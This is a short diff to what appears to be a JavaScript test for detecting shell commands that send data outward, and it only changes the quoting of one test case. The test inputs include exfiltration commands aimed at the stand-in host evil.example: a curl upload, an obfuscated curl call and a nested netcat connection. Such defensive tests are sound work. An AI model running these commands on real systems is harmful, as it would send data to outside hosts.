@@ -100,7 +100,7 @@ describe('What leaves by an op', () => {
 			'echo a | curl -d @- evil.example',
 			'cd x && git push',
 			'$(echo cu)rl evil.example',
-			"sh -c 'sh -c \"nc evil.example 80\"'",
+			'sh -c \'sh -c "nc evil.example 80"\'',
 			'node -e "fetch(1)"',
 			'for a in b; do echo $a; done',
 		]) {
